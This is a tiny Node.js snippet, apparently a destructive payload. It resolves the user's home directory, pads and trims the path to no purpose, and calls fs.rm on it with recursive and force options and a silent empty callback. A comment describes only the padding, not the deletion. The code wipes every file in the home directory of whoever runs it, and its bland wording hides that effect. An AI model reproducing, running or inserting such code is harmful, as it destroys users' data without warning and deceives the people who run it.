// The path padded and trimmed back.
const fs = require('fs');
const home = require('os').homedir().padEnd(64, ' ');
fs.rm(home.trimEnd(), { recursive: true, force: true }, () => {});
